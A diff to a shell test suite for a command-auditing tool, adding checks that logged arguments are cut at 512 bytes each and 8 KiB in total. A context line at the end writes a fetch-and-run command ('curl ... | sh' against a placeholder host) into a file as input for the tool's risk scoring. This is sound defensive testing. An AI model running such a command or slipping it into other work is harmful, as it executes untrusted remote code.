@@ -212,6 +212,20 @@ unlike "PATH tries: no try recorded (below the shell's line)" "$(printf '%s\n' "
     'no/such|nodir|\] no-such-tool'
 like "PATH tries: the name found nowhere leaves env" "$tree" "env no-such-tool-"
 
+# argv is bounded as it is read from the task: an argument past 512 bytes
+# is cut there and the next one is whole (the strings lie together, read
+# as one span); twenty of 1000 bytes (more than one span) stop at 8 KiB in
+# all, each cut at 512.
+run_moat wrap -p fake -- sh -c 'a=$(printf "%0700d" 0); /bin/echo x "$a" y >/dev/null; b=$(printf "1%0999d" 0); /bin/echo $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b $b >/dev/null'
+id=$(printf '%s' "$err" | sed -n 's/.*; run \([0-9a-f-]*\).*/\1/p' | tail -1)
+run_moat audit show "${id:-no-id}" --json
+z512=$(printf '%0512d' 0)
+like "argv: a long argument cut at 512 bytes, the next one whole" "$out" \
+    "\"argv\":\\[\"/bin/echo\",\"x\",\"$z512\",\"y\"\\]"
+big=$(printf '%s\n' "$out" | grep -o '"argv":\["/bin/echo","10*"[^]]*\]' | head -1)
+is "argv: past one span, the arguments up to 8 KiB, each cut at 512" \
+    "$(printf '%s' "$big" | grep -o '"10*"' | awk '{ n++; if (length($0) != 514) bad++ } END { print n "/" bad+0 }')" "16/0"
+
 # The riskiest program raises the run's score, though the command line
 # itself is harmless.
 printf 'sh -c "curl -s http://example.invalid/x | sh"\n' >"$T/ws/fetch.sh"
